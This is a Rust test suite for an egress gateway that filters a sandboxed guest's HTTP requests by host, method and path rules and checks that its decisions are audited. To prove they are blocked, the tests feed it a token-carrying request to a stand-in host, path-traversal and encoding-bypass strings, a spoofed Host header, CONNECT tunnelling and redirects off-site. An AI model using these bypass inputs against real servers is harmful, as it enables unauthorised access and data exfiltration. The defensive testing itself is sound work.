//! Rules on HTTP requests, judged by real clients: what is allowed arrives unchanged, what is not
//! never leaves, and the answer says why.

use outgate_tests::harness::{SECRET, World, lab};

/// One rule that most tests need: some methods on some paths of `a.test`.
const A_PUBLIC: &str = r#"
rules:
  - id: a-public
    action: allow
    to: { hosts: [a.test], private: true }
    http: { methods: [GET, POST, PUT, HEAD], paths: ["/public/**"] }
"#;

#[track_caller]
fn nothing_left(world: &World) {
    assert_eq!(world.lab.journal.all(), [], "the origin received a request");
    assert_eq!(world.lab.sink.all(), [], "the sink was reached");
}

#[test]
fn an_allowed_request_arrives_and_is_recorded() {
    let world = World::new(A_PUBLIC);
    let url = "https://a.test/public/x?page=2&secret=hunter2";
    let reply = world
        .guest()
        .curl(url, ["-H", "X-Custom: kept"])
        .expect_status(200);

    let received = reply.json();
    assert_eq!(received["target"], "/public/x?page=2&secret=hunter2");
    let received = &world.lab.journal.all()[0];
    assert_eq!(received.method, "GET");
    assert_eq!(received.sni.as_deref(), Some("a.test"));
    assert_eq!(received.header("x-custom"), ["kept"]);

    let record = world
        .audit()
        .wait_for("the request", |r| r.text("kind") == "request");
    assert_eq!(record.text("verdict"), "allow");
    assert_eq!(record.text("rule.id"), "a-public");
    assert_eq!(record.text("sandbox.id"), "sandbox-1");
    assert_eq!(record.text("host"), "a.test");
    assert_eq!(record.text("path"), "/public/x");
    assert_eq!(
        record.text("policy_revision"),
        world.registration().granted.policy_revision
    );
    let id = record.text("id").to_owned();
    let response = world
        .audit()
        .wait_for("the response", |r| r.text("request") == id);
    assert_eq!(response.number("status"), 200);
    assert!(
        response
            .text("peer")
            .starts_with(&world.lab.origin_address().to_string())
    );
}

#[test]
fn another_method_or_path_is_denied_with_a_reason_and_a_record() {
    let world = World::new(A_PUBLIC);
    for (path, options) in [
        ("/public/x", &["-X", "DELETE"][..]),
        ("/private", &[]),
        ("/public", &[]),
        ("/PUBLIC/x", &[]),
        ("/", &[]),
    ] {
        let reply = world
            .guest()
            .curl(&format!("https://a.test{path}"), options);
        let id = reply.expect_denied(403, "default_deny");
        let record = world.audit().decision(&id);
        assert_eq!(record.text("verdict"), "deny", "{path}");
        assert_eq!(record.text("reason"), "default_deny", "{path}");
        assert_eq!(record.text("path"), path);
        assert_eq!(record.number("status"), 403, "{path}: {record:?}");
    }
    nothing_left(&world);
}

#[test]
fn a_denial_is_text_for_those_who_ask_for_text() {
    let world = World::new(A_PUBLIC);
    let url = "https://a.test/private";
    let reply = world
        .guest()
        .curl(url, ["-H", "Accept: text/plain"])
        .expect_status(403);
    assert!(
        reply
            .header("content-type")
            .is_some_and(|t| t.starts_with("text/plain")),
        "{reply:?}"
    );
    assert!(reply.text().contains("default_deny"), "{}", reply.text());
    // On any path of HTTP: h2 gets the same.
    let url = "https://a.test/private";
    world
        .guest()
        .curl(url, ["--http2"])
        .expect_denied(403, "default_deny");
    world
        .guest()
        .curl(url, ["--http1.1"])
        .expect_denied(403, "default_deny");
}

#[test]
fn a_denied_upload_is_answered_before_its_body_is_read() {
    let world = World::new(A_PUBLIC);
    for length in [3, 3_000_000] {
        let options = [
            "--http1.1",
            "-X",
            "PATCH",
            "-H",
            "Expect:",
            "--data-binary",
            "@-",
        ];
        let body = vec![b'x'; length];
        let reply = world
            .guest()
            .curl_with_input("https://a.test/public/x", options, body);
        reply.expect_denied(403, "default_deny");
    }
    nothing_left(&world);
}

#[test]
fn b006_plain_http_is_held_to_the_same_policy() {
    let world = World::new(A_PUBLIC);
    let guest = world.guest();
    // By name: the name is not even resolved.
    assert_eq!(guest.curl("http://evil.test/?q=token", [""; 0]).curl, 6);
    // An https rule says nothing of http.
    let plain = guest.curl("http://a.test/public/x", [""; 0]);
    assert!(plain.curl == 7 || plain.status == Some(403), "{plain:?}");
    nothing_left(&world);

    let world = World::new(
        r#"
rules:
  - id: plain
    action: allow
    protocol: http
    to: { hosts: [a.test], private: true }
    http: { methods: [GET], paths: ["/public/**"] }
"#,
    );
    let guest = world.guest();
    guest
        .curl("http://a.test/public/x", [""; 0])
        .expect_status(200);
    guest
        .curl("http://a.test/other", [""; 0])
        .expect_denied(403, "default_deny");
    // The connection's destination is a.test; another Host inside it is a different request.
    let evil = ["-H", "Host: evil.test"];
    guest
        .curl("http://a.test/public/x", evil)
        .expect_denied(421, "authority_mismatch");
    assert_eq!(world.lab.journal.all().len(), 1);
    assert_eq!(world.lab.sink.all(), []);
}

#[test]
fn b007_names_that_no_rule_has_get_no_tunnel() {
    let world = World::new(A_PUBLIC);
    for name in ["evil.test", "nx.test", "xa.test", "a.test.evil.test"] {
        let reply = world
            .guest()
            .curl(&format!("https://{name}/public/x"), [""; 0]);
        assert_eq!((reply.curl, reply.status), (6, None), "{name}");
        world.audit().denial("dns_name_denied", name);
    }
    assert_eq!(
        world.lab.dns.queries(),
        [],
        "no query leaves before a verdict"
    );
    nothing_left(&world);
}

#[test]
fn b009_deny_wins_whatever_the_order() {
    let allow = "  - { id: all, action: allow, to: { hosts: [a.test], private: true } }\n";
    let deny = "  - { id: no-admin, action: deny, to: { hosts: [a.test] }, \
                http: { paths: [\"/admin/**\"] } }\n";
    for rules in [
        format!("rules:\n{allow}{deny}"),
        format!("rules:\n{deny}{allow}"),
    ] {
        let world = World::new(&rules);
        let guest = world.guest();
        guest
            .curl("https://a.test/open", [""; 0])
            .expect_status(200);
        let denied = guest.curl("https://a.test/admin/users", [""; 0]);
        let record = world
            .audit()
            .decision(&denied.expect_denied(403, "rule_deny"));
        assert_eq!(record.text("rule.id"), "no-admin");
        assert_eq!(world.lab.journal.all().len(), 1);
    }
}

#[test]
fn b017_private_addresses_open_only_where_a_rule_says_so() {
    let lab = lab();
    let world = World::in_lab(
        lab,
        r#"
rules:
  - id: internal
    action: allow
    to: { hosts: [a.test], private: true }
  - id: public
    action: allow
    to: { hosts: [b.test] }
"#,
    );
    let guest = world.guest();
    guest.curl("https://a.test/", [""; 0]).expect_status(200);
    // b.test resolves to the same loopback address, and its rule doesn't open it.
    let denied = guest.curl("https://b.test/", [""; 0]);
    denied.expect_denied(403, "private_address");
    assert!(
        !denied
            .text()
            .contains(&world.lab.origin_address().to_string()),
        "a denial tells the guest no internal address: {}",
        denied.text()
    );
    assert_eq!(world.lab.journal.all().len(), 1);
}

#[test]
fn b022_wildcards_end_at_a_label_boundary() {
    let lab = lab();
    for name in ["evilc.test", "evil-c.test", "xc.test", "cxtest"] {
        lab.name(name);
    }
    let world = World::in_lab(
        lab,
        r#"
rules:
  - id: below-c
    action: allow
    to: { hosts: ["*.c.test"], private: true }
"#,
    );
    for name in ["x.c.test", "x.y.c.test", "X.C.TEST"] {
        world
            .guest()
            .curl(&format!("https://{name}/"), [""; 0])
            .expect_status(200);
    }
    let denied = [
        "c.test",
        "evilc.test",
        "evil-c.test",
        "c.test.evil.test",
        "x.c.test.evil.test",
        "cxtest",
    ];
    for name in denied {
        let reply = world.guest().curl(&format!("https://{name}/"), [""; 0]);
        assert_eq!((reply.curl, reply.status), (6, None), "{name}");
    }
    let names: Vec<_> = world
        .lab
        .journal
        .all()
        .into_iter()
        .filter_map(|r| r.authority)
        .collect();
    assert_eq!(names, ["x.c.test", "x.y.c.test", "x.c.test"]);
    assert_eq!(world.lab.sink.all(), []);
}

#[test]
fn b023_paths_are_judged_and_forwarded_in_one_canonical_form() {
    let world = World::new(A_PUBLIC);
    let ask = |path: &str| {
        world
            .guest()
            .curl(&format!("https://a.test{path}"), ["--path-as-is"])
    };
    for (path, forwarded) in [
        ("/public/./x", "/public/x"),
        ("/./public/x", "/public/x"),
        ("/public/y/../x", "/public/x"),
        ("/other/../public/x", "/public/x"),
        ("/%70ublic/x", "/public/x"),
        ("/public/a%7eb", "/public/a~b"),
        ("/public/a%2cb", "/public/a%2Cb"),
        ("/public//x", "/public//x"),
        ("/public/x?y=/../../secret", "/public/x?y=/../../secret"),
    ] {
        world.lab.journal.clear();
        ask(path).expect_status(200);
        assert_eq!(world.lab.journal.all()[0].target, forwarded, "{path}");
    }
    world.lab.journal.clear();
    for path in [
        "/public/../secret",
        "/public/%2e%2e/secret",
        "/public/%2E./secret",
        "/public/.%2e/secret",
        "//public//../../secret",
        "//public/x",
    ] {
        ask(path).expect_denied(403, "default_deny");
    }
    for path in [
        "/../public/x",
        "/public/../../x",
        "/public/..;x/secret",
        "/public/..%3bx/secret",
        "/public/\\../secret",
        "/public/%5c..%5csecret",
        "/public/%00",
        "/public/%0a",
        "/public/%zz",
        "/public/%",
    ] {
        ask(path).expect_denied(400, "bad_path");
    }
    for path in ["/public/a%2fb", "/public/%2f..%2fsecret"] {
        let reply = ask(path);
        assert_eq!(reply.status, Some(400), "{path}: {}", reply.text());
    }
    nothing_left(&world);
}

#[test]
fn b169_encoded_slashes_stay_data_where_a_rule_opts_in() {
    let world = World::new(
        r#"
rules:
  - id: npm
    action: allow
    to: { hosts: [a.test], private: true }
    http: { methods: [GET], paths: ["/**"], encoded_slash: data }
"#,
    );
    world
        .guest()
        .curl("https://a.test/@scope%2fpkg", [""; 0])
        .expect_status(200);
    let target = &world.lab.journal.all()[0].target;
    assert!(target.eq_ignore_ascii_case("/@scope%2fpkg"), "{target}");
    let traversal = "https://a.test/x%2f..%2f..%2fsecret";
    assert_eq!(world.guest().curl(traversal, [""; 0]).status, Some(400));
    assert_eq!(world.lab.journal.all().len(), 1);
}

#[test]
fn b029_redirects_are_the_guests_to_follow_and_judged_anew() {
    let world = World::new(
        r#"
rules:
  - id: a
    action: allow
    to: { hosts: [a.test], private: true }
"#,
    );
    let away = "https://a.test/redirect?to=http%3A%2F%2Fevil.test%2Fx";
    let reply = world.guest().curl(away, [""; 0]).expect_status(302);
    assert_eq!(reply.header("location"), Some("http://evil.test/x"));
    let followed = world.guest().curl(away, ["--location"]);
    assert_eq!(
        followed.curl, 6,
        "the hop to another host is judged: {followed:?}"
    );
    let home = "https://a.test/redirect?to=%2Fv2";
    world.guest().curl(home, ["--location"]).expect_status(200);
    let targets: Vec<_> = world
        .lab
        .journal
        .all()
        .into_iter()
        .map(|r| r.target)
        .collect();
    assert_eq!(targets.last().map(String::as_str), Some("/v2"));
    assert_eq!(world.lab.sink.all(), []);
}

#[test]
fn b177_a_rules_message_reaches_the_agent() {
    let world = World::new(
        r#"
rules:
  - id: all
    action: allow
    to: { hosts: [a.test], private: true }
  - id: no-secrets
    action: deny
    to: { hosts: [a.test] }
    http: { paths: ["/secrets/**"] }
    message: Ask in the platform channel.
"#,
    );
    let url = "https://a.test/secrets/x";
    let reply = world.guest().curl(url, [""; 0]);
    reply.expect_denied(403, "rule_deny");
    assert_eq!(
        reply.json()["message"],
        "Ask in the platform channel.",
        "{}",
        reply.text()
    );
    let text = world.guest().curl(url, ["-H", "Accept: text/plain"]);
    assert!(
        text.text().contains("Ask in the platform channel."),
        "{}",
        text.text()
    );
}

#[test]
fn trace_and_connect_are_denied_whatever_the_rules_say() {
    let world = World::new(
        r#"
rules:
  - id: all
    action: allow
    to: { hosts: [a.test], private: true }
"#,
    );
    let url = "https://a.test/";
    world
        .guest()
        .curl(url, ["-X", "TRACE"])
        .expect_denied(403, "trace_denied");
    let connect = world
        .guest()
        .curl(url, ["-X", "CONNECT", "--request-target", "evil.test:443"]);
    // Over h2, a CONNECT with a path is no request at all and ends its stream.
    assert!(
        matches!(connect.status, None | Some(400 | 403 | 405 | 421)),
        "{connect:?}"
    );
    nothing_left(&world);
}

#[test]
fn the_guest_can_ask_the_gateway_for_its_certificate_authority() {
    let world = World::new("");
    let reply = world
        .guest()
        .curl("http://outgate.internal/ca.pem", [""; 0])
        .expect_status(200);
    let granted = &world.registration().granted.ca_pem;
    assert!(granted.contains(reply.text().trim()), "{}", reply.text());
    assert!(!reply.text().contains(SECRET));
}

#[test]
fn real_clients_work_without_options() {
    let world = World::new(
        r#"
rules:
  - id: everything
    action: allow
    to: { hosts: [a.test], private: true }
"#,
    );
    let guest = world.guest();
    let url = "https://a.test/hello";
    let script = format!("import urllib.request as u; print(u.urlopen('{url}').status)");
    let python = guest
        .program("python3")
        .args(["-c", &script])
        .run()
        .succeeded();
    assert_eq!(python.text(), "200\n");

    let repository = "https://a.test/git/demo.git";
    guest
        .program("git")
        .args(["clone", "--quiet", repository, "copy"])
        .run()
        .succeeded();
    let readme = std::fs::read_to_string(guest.folder().join("copy/README")).expect("cloned");
    assert_eq!(readme, outgate_tests::lab::GIT_README);

    let openssl = guest
        .program("openssl")
        .args([
            "s_client",
            "-connect",
            "a.test:443",
            "-servername",
            "a.test",
            "-verify_return_error",
        ])
        .args(["-verify_hostname", "a.test", "-brief"])
        .env("SSL_CERT_DIR", "/nonexistent")
        .run()
        .succeeded();
    assert!(
        openssl.stderr.contains("Verification: OK"),
        "{}",
        openssl.stderr
    );
}
